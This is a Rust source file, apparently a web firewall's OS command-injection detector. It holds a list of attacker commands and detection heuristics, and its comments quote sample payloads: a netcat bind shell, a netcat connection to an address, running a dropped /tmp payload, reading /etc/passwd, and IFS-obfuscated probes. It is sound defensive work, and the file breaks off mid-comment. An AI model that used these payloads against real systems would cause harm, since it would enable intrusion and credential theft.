//! OS command injection, read the way a shell would: a command separator or substitution
//! (`;`, `|`, `&&`, `||`, a newline, `` `…` ``, `$(…)`) followed by a command word that
//! shells run. Markdown backticks around words that are not commands stay clean.

use crate::{signal, Detector};
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, AhoCorasickKind, MatchKind};
use palisade_normalize::classes as bc;
use palisade_normalize::Value;
use palisade_types::{Category, PlaceKind, Signal};
use std::collections::HashSet;
use std::sync::LazyLock;

/// Commands attackers run first: recon, download-and-run, shells, reverse connections.
const COMMANDS: &[&str] = &[
    "cat",
    "printf",
    "ls",
    "id",
    "whoami",
    "uname",
    "pwd",
    "wget",
    "curl",
    "nc",
    "ncat",
    "netcat",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "dash",
    "python",
    "python3",
    "perl",
    "ruby",
    "php",
    "ping",
    "nslookup",
    "dig",
    "sleep",
    "echo",
    "rm",
    "chmod",
    "chown",
    "kill",
    "ps",
    "netstat",
    "ifconfig",
    "ip",
    "env",
    "printenv",
    "head",
    "tail",
    "more",
    "less",
    "cp",
    "mv",
    "touch",
    "mkfifo",
    "telnet",
    "ssh",
    "scp",
    "powershell",
    "cmd",
    "cmd.exe",
    "net",
    "ipconfig",
    "systeminfo",
    "tasklist",
    "certutil",
    "bitsadmin",
    "type",
    "dir",
    "base64",
    "xxd",
    "nohup",
    "crontab",
    "useradd",
    "passwd",
    "hostname",
    "find",
    "grep",
    "awk",
    "sed",
    "tftp",
    "ftp",
    "busybox",
    "timeout",
    "exec",
    "eval",
    // Windows binaries that fetch, run or reconfigure (living off the land).
    "mshta",
    "regedit",
    "rundll32",
    "regsvr32",
    "wmic",
    "cscript",
    "wscript",
    "schtasks",
    "bcdboot",
    "bcdedit",
    "vssadmin",
    "msiexec",
    "icacls",
    // Package managers, compilers and admin tools no prose names.
    "aptitude",
    "apt-get",
    "pip3",
    "pipx",
    "gcc",
    "irb",
    "zstdcat",
    "gunzip",
    "base32",
    "lastlog",
    "htop",
    "visudo",
    "cscli",
    "ssh-copy-id",
    // File readers and the Windows version probe (`;tac /etc/passwd`, `&ver&`).
    "tac",
    "nl",
    "od",
    "ver",
    "/bin/sh",
    "/bin/bash",
    "/usr/bin/id",
    "/bin/cat",
];

/// Is `word` a command attackers run (`whoami`, `/bin/sh`)? For other detectors' arguments.
pub(crate) fn is_command(word: &str) -> bool {
    Rce::command(word).is_some()
}

/// [`COMMANDS`] as a set, built once: looked up on every separator hit.
static COMMAND_SET: LazyLock<HashSet<&'static str>> =
    LazyLock::new(|| COMMANDS.iter().copied().collect());

pub struct Rce {
    /// Separators and substitutions that let a value start a new command.
    separators: AhoCorasick,
}

impl Rce {
    pub fn new() -> Self {
        // Compile the cmd.exe patterns with the detector, not on the first request that
        // needs them (the IF pattern takes milliseconds).
        LazyLock::force(&WINDOWS_FOR);
        LazyLock::force(&WINDOWS_IF);
        LazyLock::force(&SYSTEM_PATHS);
        Rce {
            separators: AhoCorasickBuilder::new()
                .kind(Some(AhoCorasickKind::DFA))
                .match_kind(MatchKind::LeftmostLongest)
                .build([
                    ";", "|", "&&", "||", "\n", "`", "$(", "${IFS}", "&", "<(", ">(",
                    // A line break written as an escape (`\nid\n`), which applications that
                    // unescape input turn back into one.
                    "\\n",
                ])
                // The pattern list is a constant; building its automaton cannot fail.
                .unwrap_or_else(|_| unreachable!()),
        }
    }

    /// Start and end (byte offsets, on character boundaries) of the first word of `s`, after
    /// leading whitespace, brackets and quotes.
    fn first_word_span(s: &str) -> (usize, usize) {
        let word = s.trim_start_matches(|c: char| {
            c.is_whitespace() || matches!(c, '(' | '{' | '\'' | '"' | '!')
        });
        let start = s.len() - word.len();
        let len = word
            .find(|c: char| {
                c.is_whitespace()
                    || matches!(
                        c,
                        ';' | '|' | '&' | '`' | ')' | '<' | '>' | '$' | '\'' | '"' | '}'
                    )
            })
            .unwrap_or(word.len());
        (start, start + len)
    }

    /// The command a word names: lower-cased, quotes and `.exe` dropped, and for a path
    /// (`/bin/sh`, `usr/bin/id`) its last segment, with whether it was named by path.
    /// Works in a stack buffer: it runs on every separator hit.
    fn command(word: &str) -> Option<(&'static str, bool)> {
        Self::lookup(word).or_else(|| {
            // `;id\n`: an escaped line break or tab ends the command word. Backslashes
            // inside a word are otherwise dropped (`w\ho\am\i`), so this is a second try.
            let at = word.match_indices('\\').map(|(at, _)| at).find(|&at| {
                at > 0 && matches!(word.as_bytes().get(at + 1), Some(b'n' | b'r' | b't'))
            })?;
            Self::lookup(&word[..at])
        })
    }

    fn lookup(word: &str) -> Option<(&'static str, bool)> {
        let mut buf = [0u8; 32];
        let mut n = 0;
        for &c in word.as_bytes() {
            if matches!(c, b'\'' | b'"' | b'\\') {
                continue;
            }
            if n == buf.len() {
                return None;
            }
            buf[n] = c.to_ascii_lowercase();
            n += 1;
        }
        let w = std::str::from_utf8(&buf[..n]).ok()?;
        let by_path = w.starts_with('/') || w.contains("bin/");
        if w.contains('/') && !by_path {
            return None;
        }
        // `/etc/passwd`, `/etc/hostname`: a file directly in /etc is configuration, never
        // a program, though its name is one's (`` The users file `/etc/passwd` lists … ``).
        if w.strip_prefix("/etc/").is_some_and(|f| !f.contains('/')) {
            return None;
        }
        let base = w.rsplit('/').next().unwrap_or(w);
        let base = base.strip_suffix(".exe").unwrap_or(base);
        COMMAND_SET.get(base).map(|c| (*c, by_path))
    }

    /// `separated`: the value has a byte a separator needs (`;`, `|`, `&`, a line break, a
    /// backtick, `$`); without one only a bare command line can be found.
    fn check(&self, text: &str, kind: PlaceKind, separated: bool) -> Option<f32> {
        let in_path = kind == PlaceKind::Path;
        if separated && !in_path {
            if let Some(c) = leading_separator_command(text) {
                return Some(c);
            }
        }
        // Backticks seen so far: an odd count means the next one closes a span.
        let mut ticks = 0usize;
        let mut last_tick = 0usize;
        // Code a document shows (fences, reST literal blocks, `<code>`/`<pre>` in a page),
        // unless it holds what no reader is shown for (`risky_shell`).
        let mut shown = Vec::new();
        if separated {
            shown = crate::shown_code(text);
            if crate::has(text, "\n    ") || crate::has(text, "\n\t") {
                shown.extend(crate::indented_code_blocks(text));
            }
            if shell_script(text, kind == PlaceKind::File)
                || annotated_script(text)
                || yaml_document(text)
            {
                shown.push((0, text.len()));
            }
            shown.extend(prompt_lines(text));
            shown.retain(|&(a, b)| !risky_block(&text[a..b].to_ascii_lowercase()));
        }
        // Whether the value is a regular expression's or an enum's alternation, asked at the
        // first `|`.
        let mut alternation = None;
        // Entering the automaton costs about a hundred instructions even on no text.
        let found = separated.then(|| self.separators.find_iter(text));
        for m in found.into_iter().flatten() {
            // A line break that ends the line before a block starts the block's first
            // command: shown too.
            let next_line = (&text[m.start()..m.end()] == "\n").then(|| {
                let after = &text[m.end()..];
                m.end() + after.len() - after.trim_start().len()
            });
            if shown.iter().any(|&(a, b)| {
                (a..b).contains(&m.start()) || next_line.is_some_and(|w| (a..b).contains(&w))
            }) {
                continue;
            }
            let sep = &text[m.start()..m.end()];
            // `<a href="dir.html#Top">(dir)</a>`, `</span>(env)`: the `>` ends an HTML tag,
            // and `(…)` is text of the page.
            if sep == ">(" && ends_html_tag(&text[..m.start()], text) {
                continue;
            }
            if sep == "|"
                && *alternation.get_or_insert_with(|| {
                    alternatives(text) || anchored_regex(text) || glued_group(text)
                })
            {
                continue;
            }
            let rest = skip_ifs(&text[m.end()..]);
            if sep == "`" {
                // A run of backticks (a ``` fence, a `` span) is Markdown, and it does not
                // change which single backticks open and close spans.
                if rest.starts_with('`') || text[..m.start()].ends_with('`') {
                    continue;
                }
                // A span never crosses a block (a blank line, a list item, a heading): a
                // stray backtick a paragraph leaves open (`` in _lwp_park` ``) ends there,
                // and the next one opens again.
                if ticks % 2 == 1 && crosses_block(&text[last_tick..m.start()]) {
                    ticks = 0;
                }
                last_tick = m.start();
                // GNU's `quote' opens with a backtick and closes with an apostrophe: no
                // backtick pairs with it.
                if ticks.is_multiple_of(2) && gnu_quote(rest) {
                    continue;
                }
                ticks += 1;
                // A closing backtick starts nothing (`` `Error` type works ``), and a Markdown
                // code span in prose is code shown, not run: it needs a command line's shape.
                if ticks.is_multiple_of(2) || tagged_template(text, m.start(), rest) {
                    continue;
                }
                // GNU and older Python documents quote `like this': the apostrophe closes
                // what the backtick opened. A shell never runs a substitution whose text
                // holds an unpaired quote (bash: unexpected EOF looking for the match). It
                // still pairs with the next backtick, as Markdown pairs them.
                let content = rest.find('`').map_or(rest, |e| &rest[..e]);
                if unterminated_quote(content) {
                    continue;
                }
                if sql_identifier(text, m.start()) {
                    continue;
                }
                if markdown_span(text, m.start(), rest) {
                    // Its separators are part of the code shown (`` `git log | head` ``).
                    if let Some(close) = rest.find('`') {
                        shown.push((m.start(), m.end() + close));
                    }
                    continue;
                }
            }
            // A word that opens with `#` starts a comment to the line's end (`\n#!/usr/bin/python`,
            // a script's shebang after a blank line in a page): nothing on it runs, and the next
            // line is the next separator's.
            if rest.trim_start_matches([' ', '\t']).starts_with('#') {
                continue;
            }
            let (word_start, word_end) = Self::first_word_span(rest);
            let word_raw = &rest[word_start..word_end];
            // `;id#`, `|whoami#` at the value's end: a scanner's probe with the comment it
            // appends to cut off the rest of the host's command line.
            let word_raw = word_raw
                .strip_suffix('#')
                .filter(|w| !w.is_empty() && rest[word_end..].trim().is_empty())
                .unwrap_or(word_raw);
            // `{\n  "type": "object"` (pretty-printed JSON in a string field): to a shell the
            // closing quote does not end the word, and `type:` is no command.
            if glued_after_quote(rest, word_start, word_end)
                || parenthetical(rest)
                || version_requirement(&rest[word_start..word_end], &rest[word_end..])
            {
                continue;
            }
            let Some((name, by_path)) = Self::command(word_raw) else {
                if powershell(word_raw, &rest[word_end..])
                    || variable_command(&rest[word_start..])
                    || dropped_payload(word_raw, &rest[word_end..])
                    || (sep != "\n"
                        && !text[..m.start()].trim().contains(char::is_whitespace)
                        && reads_system_file(word_raw, &rest[word_end..]))
                {
                    return Some(0.85);
                }
                continue;
            };
            // A quoted name alone on its line (`\t"net"` in a Go import list, an array's item
            // pretty-printed): a shell would run the program with no argument, which shows
            // a usage message, unless it is one that acts alone (`"id"`, `"reboot"`).
            if sep == "\n" && quoted_alone(rest, word_start, word_end) && !acts_alone(name) {
                continue;
            }
            // `type` is the shells' builtin that only describes names (`type ls`), and Go's
            // and TypeScript's declaration (`type ParsedTestData struct {`, `type A = B`);
            // only cmd.exe's `type` reads a file, and names it (`type C:\boot.ini`, `type
            // ..\web.config`, `type /etc/passwd`).
            if name == "type" && !names_file(&rest[word_end..]) {
                continue;
            }
            let substitution = matches!(sep, "`" | "$(" | "<(" | ">(");
            // `ver` is a cmd.exe builtin, and cmd.exe has no substitutions: the shells that
            // do (`$(…)`, `>(…)`, backticks; PowerShell's `$(…)`) have no such command.
            // `<code>Structure</code>(ver TAREA)` is Spanish for "see TODO".
            if substitution && name == "ver" {
                continue;
            }
            // `docker run -v $(pwd)/html:/usr/share/nginx/html …`: the working directory as
            // the start of a path argument, or as an option's value (`--mount
            // "type=bind,src=$(pwd),dst=/checkout"`), in a command line shown to a reader.
            // `pwd` prints the directory and does nothing else.
            if substitution && word_raw.eq_ignore_ascii_case("pwd") {
                let after = &rest[word_end..];
                let closed = after.strip_prefix(')').or_else(|| after.strip_prefix('`'));
                let closed = closed.map(|t| t.strip_prefix('"').unwrap_or(t));
                let value = text[..m.start()].trim_end_matches('"').ends_with('=');
                if closed.is_some_and(|t| value || t.starts_with(['/', ':'])) {
                    continue;
                }
            }
            if sep == "$(" && make_variable(rest, text) {
                continue;
            }
            if sep == "|"
                && (filter_pipe(name, &rest[word_end..])
                    || (name == "eval" && eval_assignment(&rest[word_end..])))
            {
                continue;
            }
            // `$(eval)`, `` `echo` ``: a substitution of a program that does nothing without
            // an argument, closed at once and standing apart in a sentence (`make with
            // $(eval) construct segfaults`, Make's function named in its changelog). It
            // prints nothing a probe could read; glued to a word (`$(echo)id`) it hides the
            // word's command from filters. An ellipsis for its arguments (`A new function is
            // defined: $(eval ...).`) stands for whatever the reader writes there.
            let args = rest[word_end..].trim_start();
            let args = args
                .strip_prefix("...")
                .or_else(|| args.strip_prefix('…'))
                .unwrap_or(&rest[word_end..]);
            let apart = args
                .strip_prefix([')', '`'])
                .is_some_and(|t| t.is_empty() || t.starts_with([' ', '\n', ',', '.', '"', ')']))
                && text[..m.start()].ends_with([' ', '(', '"']);
            if substitution
                && apart
                && (needs_argument(name) || name == "eval")
                && crate::xss::prose_words(text) >= 3
            {
                continue;
            }
            if substitution && (rest.contains('`') || rest.contains(')')) {
                return Some(0.95);
            }
            // A command named by its path after a separator is shell, not prose.
            if by_path {
                return Some(0.9);
            }
            // In prose, "a; cat" or "x | more" read as text: require something shell-like after
            // the command (a flag, a path, a number, `$`, a redirection), or nothing at all.
            let after = &rest[word_end..];
            // The quote that opened the word (`&& 'env' in labels`) closes it: the command's
            // own, not the start of a quoted argument.
            let opened = word_start
                .checked_sub(1)
                .map(|q| rest.as_bytes()[q])
                .filter(|q| matches!(q, b'\'' | b'"'));
            let next = opened
                .and_then(|q| after.strip_prefix(char::from(q)))
                .filter(|a| !a.trim_start().is_empty())
                .unwrap_or(after)
                .trim_start();
            let drive = next.len() >= 2
                && next.as_bytes()[0].is_ascii_alphabetic()
                && next.as_bytes()[1] == b':';
            // commix's probes: `echo TAG$((12*99))TAG`, an argument computed by the shell
            // (this command's own: up to the line's end or the next separator).
            let own = next.split(['\n', ';', '|', '&']).next().unwrap_or("");
            let expanded = own.contains("$(");
            // That argument without the payload's own closing quote or comment
            // (`x&nslookup abc.oast.fun"`, `…#`), which end what the host command left open.
            let own = own.trim_end().trim_end_matches(['\'', '"', '#']);
            let argish = drive
                || option(next)
                || expanded
                || (next
                    .starts_with(['/', '$', '<', '>', '|', ';', '`', '\'', '"', '.', '~', '%'])
                    && !usage_placeholder(next))
                || (network_probe(name)
                    && (host_name(own)
                        // `| nc 203.0.113.7 4444`: an address, then a port or more.
                        || next
                            .split_ascii_whitespace()
                            .next()
                            .is_some_and(|h| h.parse::<std::net::Ipv4Addr>().is_ok())))
                || (numeric_argument(next)
                    && matches!(
                        name,
                        "sleep"
                            | "ping"
                            | "timeout"
                            | "kill"
                            | "nc"
                            | "ncat"
                            | "netcat"
                            | "telnet"
                            | "echo"
                    ))
                || next.is_empty()
                || after.contains('/');
            // A list or table row in prose (`name | id | email`, `Columns: name; id; email`,
            // `name & id & email`): the word stands between two separators, each followed by
            // a space, with a word that is no command on the far side. Injections glue their
            // commands (`;id;`, `|id|`, `&id&`) or chain them (`x | id | tee out`).
            let list_item = sep.len() == 1
                && rest.starts_with(' ')
                && text[..m.start()]
                    .trim_end_matches(' ')
                    .ends_with(|c: char| c.is_alphanumeric())
                && after
                    .trim_start_matches(' ')
                    .strip_prefix(sep)
                    .and_then(|t| t.strip_prefix(' '))
                    .is_some_and(|t| {
                        // A word, not the next command of a pipeline (`a | ls | grep x`).
                        let (s2, e2) = Self::first_word_span(t);
                        t.trim_start().starts_with(char::is_alphabetic)
                            && Self::command(&t[s2..e2]).is_none()
                    });
            if list_item {
                continue;
            }
            // `&id&`, `;id #`: the command, then another separator or a comment that cuts
            // off the rest of the host's command line, or only the host's closing quote
            // (`;id #"`). `id #4512` is a number sign in a sentence.
            let cut = next.starts_with(['&', ';', '|'])
                || next
                    .trim_end()
                    .strip_prefix('#')
                    .is_some_and(|t| matches!(t, "" | "\"" | "'" | "`"));
            // `mammal;cat;ears`: a program that does nothing without an argument (it waits
            // on its input, or prints an empty line), glued between two separators, is a
            // word in a list; `;id;` and `;ls;` print what a probe wants.
            if next.starts_with(['&', ';', '|']) && needs_argument(name) {
                continue;
            }
            // `sendgrid/6.11.0;python` (a client library's User-Agent): a language's
            // interpreter with nothing after it waits for a program on its input and shows
            // a probe nothing; `;id` or `;python -c …` do.
            let idle_interpreter = next.is_empty()
                && matches!(name, "python" | "python3" | "perl" | "ruby" | "php" | "irb");
            // After a lone `&` (a query string's, `R&D`), a command needs its argument's
            // shape spelled out: an option, a path, `$IFS` for a space (`&ping$IFS$9-c$IFS$91
            // …`), a computed argument, or nothing after a command that only reports on the
            // host (`x&id`, `'&whoami`: no query string or sentence ends so).
            let ampersand_ok = cut
                || option(next)
                || next.starts_with('/')
                || drive
                || skip_ifs(next) != next
                || expanded
                // (glued to the `&`: `Tom & id` is a sentence's pair of names)
                || (own.is_empty()
                    && reports_host(name)
                    && word_start == 0
                    && !query_pair_before(&text[..m.start()]))
                || (network_probe(name)
                    && (host_name(own) || own.starts_with("http://") || own.starts_with("https://")))
                || (numeric_argument(own) && matches!(name, "sleep" | "ping" | "timeout"));
            if (argish || cut) && !idle_interpreter && (sep != "&" || ampersand_ok) {
                return Some(if next.is_empty() { 0.75 } else { 0.9 });
            }
        }
        // A server-side include is the same in a URL's path as in a parameter: a page that
        // echoes its URL (a 404 page) runs it.
        if let Some(conf) = ssi_directive(text) {
            return Some(conf);
        }
        // The whole value a command: with a system path it is an attempt (`cat /etc/passwd`);
        // with flags only it may be documentation (`ls -la`), so it is only logged. A URL
        // path is a path, not a command line (traversal is the LFI detector's).
        if in_path {
            return None;
        }
        // cmd.exe loops and conditions: `for /f %i in (…) do …`, `if exist x echo y`. Both
        // need a `(`, a separator or a leading `if`.
        let maybe_cmd = separated || text.contains('(') || starts_if(text);
        if maybe_cmd {
            if let Some(r) = windows_cmd(text) {
                return Some(r);
            }
        }
        let trimmed = text.trim_start();
        // `first_word` skips leading brackets and quotes: slice at the span, not the length.
        let (start, end) = Self::first_word_span(trimmed);
        let first = &trimmed[start..end];
        let args = trimmed[end..].trim_start();
        if powershell(first, args) {
            return Some(0.85);
        }
        // A shell handed a program that fetches, reads system files or asks who it runs as,
        // as the whole value (`ksh -c "curl …"`, `$SHELL -c 'id'`): what an injection that
        // reached an argument list runs. A deployment's start command (`sh -c 'npm run
        // migrate && npm start'`, by its path too) does none of that, and is recorded.
        // Only a `-c` after the first word makes it worth naming the command: this runs on
        // every value that reaches here.
        let shell_var = trimmed.starts_with("$SHELL ") || trimmed.starts_with("${SHELL} ");
        let sh_args = if shell_var {
            trimmed.split_once(' ').map_or("", |(_, a)| a.trim_start())
        } else {
            args
        };
        let program = sh_args
            .strip_prefix("-c")
            .filter(|a| a.starts_with([' ', '\t']))
            .map(str::trim_start);
        let shell = program.is_some()
            && (shell_var
                || Self::command(first).is_some_and(|(name, _)| {
                    matches!(
                        name,
                        "sh" | "bash" | "ksh" | "zsh" | "dash" | "csh" | "tcsh"
                    )
                }));
        if shell {
            // Quoted or not (`/bin/sh -c bundle exec puma`, Docker's shell form as a process
            // lists it, runs `bundle`).
            if let Some(program) = program.map(|a| a.strip_prefix(['"', '\'']).unwrap_or(a)) {
                let p = program.to_ascii_lowercase();
                let (s2, e2) = Self::first_word_span(&p);
                let recon = matches!(
                    Self::command(&p[s2..e2]).map(|(n, _)| n),
                    Some("id" | "whoami" | "uname" | "ifconfig" | "hostname" | "cat" | "env")
                );
                let reach = [
                    "curl", "wget", "nc ", "ncat", "/dev/tcp", "/etc/", "/bin/", "base64",
                ]
                .iter()
                .any(|k| p.contains(k));
                if recon || reach || risky_shell(&p) {
                    return Some(0.85);
                }
            }
        }
        // `PS C:\> dir` is PowerShell's prompt, then a command shown (see [`prompt_lines`]).
        if powershell_prompt(trimmed).is_some() && !risky_shell(&trimmed.to_ascii_lowercase()) {
            return None;
        }
        // `find … -exec cmd {} +` runs a command per file found.
        if first.eq_ignore_ascii_case("find") && args.contains("-exec") && args.contains("{}") {
            return Some(0.85);
        }
        // A command that the value ends with a separator (`id;`, `whoami|`): it expects the
        // host command line to continue after it.
        if args.len() <= 2 && args.starts_with([';', '|', '&']) && Self::command(first).is_some() {
            return Some(0.8);
        }
        if text.contains(['[', '?', '*']) {
            if let Some(c) = globbed_system_path(text) {
                return Some(c);
            }
        }
        // A runner in front of a command (`time sh -c whoami`, `nohup ifconfig`): judge the
        // command it runs. `nohup`, `strace`, `sudo` and `busybox` are no English words, so the
        // command alone counts after them (when the value reaches this far: it needs a `-`,
        // `/` or separator byte); after `time`, `env`, `nice` or `timeout` it needs a
        // flag or a path, as a bare command does.
        if let Some(runner) = runner(first) {
            let (s2, e2) = Self::first_word_span(args);
            let cmd = &args[s2..e2];
            let cmd_args = args[e2..].trim_start();
            if let Some((name, _)) = Self::command(cmd) {
                let flag = cmd_args.strip_prefix('-').is_some_and(|f| {
                    f.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '-')
                });
                let shellish = flag || cmd_args.starts_with(['/', '\\']);
                // A command that is no English word needs nothing more (`time ifconfig`).
                let unmistakable = matches!(
                    name,
                    "whoami"
                        | "ifconfig"
                        | "ipconfig"
                        | "uname"
                        | "wget"
                        | "curl"
                        | "netcat"
                        | "ncat"
                        | "nslookup"
                        | "systeminfo"
                        | "tasklist"
                        | "certutil"
                        | "bitsadmin"
                        | "printenv"
                        | "netstat"
                        | "mkfifo"
                        | "crontab"
                        | "useradd"
                        | "powershell"
                        | "lastlog"
                        | "visudo"
                );
                if shellish || unmistakable || (runner.1 && !cmd_args.contains(char::is_whitespace))
                {
                    return Some(0.85);
                }
            }
        }
        // Only a flag or a path after the first word can make it a command line: a key
        // file's relative path too (`~/.ssh/id_rsa`, `.aws/credentials`).
        let secret = args.starts_with(['~', '.']) && crate::lfi::names_sensitive_file(args);
        let shellish = args.starts_with(['-', '/', '\\'])
            || args.get(1..3).is_some_and(|d| d == ":/" || d == ":\\")
            || secret;
        if !(shellish || first.starts_with('/')) {
            return None;
        }
        // `Find /var/log all directories, exclude nginx and mysql` (an Ansible task's name),
        // `Copy /etc/hosts to the new server`: a sentence opening with a capitalised verb, a
        // path, then prose. A Unix shell finds no `Find`; cmd.exe would, but not with a Unix
        // path, and nothing here separates, substitutes or redirects.
        let sentence = first.len() > 1
            && first.starts_with(|c: char| c.is_ascii_uppercase())
            && first[1..].bytes().all(|c| c.is_ascii_lowercase())
            && args.starts_with('/')
            && !text.contains([';', '|', '&', '`', '$', '>', '<', '\n'])
            && args
                .split_once(char::is_whitespace)
                .is_some_and(|(_, prose)| crate::xss::prose_words(prose) >= 3);
        if sentence {
            return None;
        }
        if let Some((_, by_path)) = Self::command(first) {
            let args = args.to_ascii_lowercase();
            const SYSTEM: [&str; 10] = [
                "/etc/", "/bin/", "/usr/", "/proc/", "/tmp/", "/dev/", "/var/", "/root/", "c:/",
                "c:\\",
            ];
            if SYSTEM.iter().any(|p| args.starts_with(p))
                || secret
                || (by_path && !args.is_empty() && !app_launch(first, &args, text) && !shell)
            {
                return Some(0.85);
            }
            // A network probe aimed at an address (`ping -n 31 127.0.0.1`), the usual blind
            // command-injection test: a command line, not prose about one.
            let probe = Self::command(first).is_some_and(|(name, _)| network_probe(name));
            if probe && args.starts_with('-') && has_ipv4(&args) {
                return Some(0.8);
            }
            // A listener or connection that hands over a shell (`nc -lvvp 4444 -e /bin/sh`).
            if risky_shell(&format!("{first} {args}")) {
                return Some(0.85);
            }
            if args.starts_with('-') {
                return Some(0.6);
            }
        }
        None
    }
}

/// An interpreter started on an application's own script or module, by its path, as a
/// process lists it (OpenTelemetry's `process.command_line`, a job's command in a deploy
/// API): `/usr/bin/python3 manage.py runserver`, `/usr/local/bin/python -m celery -A app
/// worker`. Before the script, the interpreter's options run no code of their own (no
/// `-c`, `-e`, `-r`: a cluster with any of those letters counts as one); the script is a
/// module after `-m` (none of Python's tools) or a path that neither climbs nor starts in a
/// system folder; and the line separates, substitutes, redirects and quotes nothing. Given by name (`python3 -m …`), such
/// a line was only ever recorded; its path does not make it a payload.
fn app_launch(first: &str, args: &str, text: &str) -> bool {
    let name = first.rsplit('/').next().unwrap_or(first);
    let interpreter = matches!(name, "python" | "python3" | "perl" | "ruby" | "php")
        || name
            .strip_prefix("python3.")
            .is_some_and(|v| !v.is_empty() && v.bytes().all(|c| c.is_ascii_digit()));
    // Quotes and parentheses are what code handed as an argument needs (`-m timeit
    // "__import__('os')…"`).
    if !interpreter
        || text.contains([
            ';', '|', '&', '`', '$', '<', '>', '\n', '\r', '(', '\'', '"',
        ])
    {
        return false;
    }
    let mut words = args.split_ascii_whitespace();
    while let Some(w) = words.next() {
        if w == "-m" {
            // Python's own modules that serve files, spawn a terminal, install or run code
            // given as arguments are no application (`-m http.server`, CRS 932160).
            const TOOLS: [&str; 17] = [
                "http.server",
                "simplehttpserver",
                "cgihttpserver",
                "xmlrpc.server",
                "smtpd",
                "pty",
                "code",
                "pip",
                "ensurepip",
                "pydoc",
                "webbrowser",
                "timeit",
                "cprofile",
                "profile",
                "trace",
                "pdb",
                "runpy",
            ];
            return words.next().is_some_and(|m| {
                m.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
                    && m.bytes()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.'))
                    && !TOOLS.iter().any(|t| m.eq_ignore_ascii_case(t))
            });
        }
        if let Some(flags) = w.strip_prefix('-') {
            let code = flags.starts_with("-e")
                || flags.starts_with("-c")
                || flags.starts_with("-r")
                || (!flags.starts_with('-') && flags.contains(['c', 'e', 'E', 'r']));
            if code {
                return false;
            }
            continue;
        }
        const SYSTEM: [&str; 6] = ["/etc/", "/tmp/", "/dev/", "/proc/", "/root/", "/var/tmp/"];
        return !w.contains("..")
            && !SYSTEM.iter().any(|p| w.starts_with(p))
            && w.bytes()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.' | b'/'));
    }
    false
}

/// `${IFS%??}id`, `$IFS$9id`: the shell's field separator (expanded, trimmed or followed by
/// an empty positional) stands where a space would; the command follows it.
/// Whether the word at `start..end` of `rest`, cut at a quote, goes on past that quote's
/// closing partner in the shell's reading: `"type":` and `'id',` are the words `type:` and
/// `id,`. Quotes only join the parts of one word; a whitespace or an operator ends it. A
/// quoted word ending the value or followed by a separator (`"id";`, `'id'`) is the command;
/// one followed by a colon after spaces is a JSON or YAML key.
fn glued_after_quote(rest: &str, start: usize, end: usize) -> bool {
    let b = rest.as_bytes();
    let Some(&q @ (b'"' | b'\'')) = b.get(end) else {
        return false;
    };
    // Only a word that the same quote opened: `"type"`, not `i"d"` (a quote inside a word).
    if start == 0 || b[start - 1] != q {
        return false;
    }
    match b.get(end + 1) {
        None => false,
        // `"Id" : "key-default-1"` (the style of AWS policy documents): a key, then its
        // value. A shell would run `Id` with the argument `:`; no injection reads so.
        Some(b' ' | b'\t') => rest[end + 1..]
            .trim_start_matches([' ', '\t'])
            .starts_with(':'),
        Some(c) => {
            !(c.is_ascii_whitespace()
                || matches!(
                    c,
                    b';' | b'|' | b'&' | b'<' | b'>' | b'(' | b')' | b'`' | b'"' | b'\''
                ))
        }
    }
}

/// A program we do not list (`fold`, `hexdump`, `iconv`, `strings`…) given a system file's
/// absolute path as its argument, after its options (`x;fold /etc/passwd`, `1|hexdump -C
/// /etc/shadow`): no list of readers is complete, and the file is what a probe reads. The
/// name is a program's (lower-case letters, digits, `-`, `_`); a separator or the value's
/// end follows the path. The caller asks for one token before the separator, the host's
/// argument: a sentence (`Edit it; see /etc/hosts`) has words there, and names the file.
fn reads_system_file(word: &str, after: &str) -> bool {
    let program = !word.is_empty()
        && word.len() <= 24
        && word.starts_with(|c: char| c.is_ascii_lowercase())
        && word
            .bytes()
            .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || matches!(b, b'-' | b'_'));
    if !program || !after.starts_with([' ', '\t']) {
        return false;
    }
    let mut args = after.split_ascii_whitespace();
    let Some(path) = args.find(|a| !a.starts_with('-')) else {
        return false;
    };
    let path = path.trim_matches(['\'', '"']);
    let end = path.find([';', '|', '&', '`', ')']).unwrap_or(path.len());
    let (path, cut) = path.split_at(end);
    (path.starts_with('/') || path.get(1..3) == Some(":\\") || path.get(1..3) == Some(":/"))
        && crate::lfi::names_sensitive_file(path)
        && (!cut.is_empty()
            || args
                .next()
                .is_none_or(|a| a.starts_with(['#', ';', '|', '&'])))
}

/// Does the first argument in `after` (the text after a command's name) name a file: a
/// path, a drive, or a name with an extension (`web.config`)? Plain words (`type Foo
/// struct {`) do not.
fn names_file(after: &str) -> bool {
    let t = skip_ifs(after.trim_start_matches([' ', '\t']));
    let arg = t
        .split(|c: char| c.is_whitespace() || matches!(c, ';' | '|' | '&' | '`' | ')'))
        .next()
        .unwrap_or("")
        .trim_matches(['"', '\'']);
    arg.contains(['/', '\\', ':', '.', '%', '$', '*', '?'])
}

/// A program run bare from a world-writable directory (`; /tmp/foo;`, `&& /dev/shm/x`,
/// `|/var/tmp/a.sh`), or from there after entering it (`;cd /tmp;./x`): the payload a
/// download dropped there, started. Prose that names such a path goes on with words (`;
/// /tmp/foo is used by default`).
fn dropped_payload(word: &str, after: &str) -> bool {
    let word = word.trim_matches(['\'', '"']);
    if word == "cd" {
        let t = after.trim_start_matches([' ', '\t']);
        return ["/tmp", "/var/tmp", "/dev/shm"]
            .iter()
            .find_map(|dir| t.strip_prefix(dir))
            .map(|r| {
                r.strip_prefix('/')
                    .unwrap_or(r)
                    .trim_start_matches([' ', '\t'])
            })
            .and_then(|r| {
                ["&&", ";", "\n", "||"]
                    .iter()
                    .find_map(|sep| r.strip_prefix(sep))
            })
            .and_then(|r| r.trim_start().strip_prefix("./"))
            .is_some_and(|r| r.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_'));
    }
    ["/tmp/", "/var/tmp/", "/dev/shm/"].iter().any(|dir| {
        word.strip_prefix(dir)
            .is_some_and(|name| !name.is_empty() && !name.ends_with('/'))
    }) && after
        .trim_start_matches([' ', '\t', '\'', '"'])
        .chars()
        .next()
        .is_none_or(|c| matches!(c, ';' | '&' | '|' | '\n' | '\r' | '`' | ')'))
}

/// Is the word at `start..end` of `rest` quoted and the last thing on its line (`"net"`,
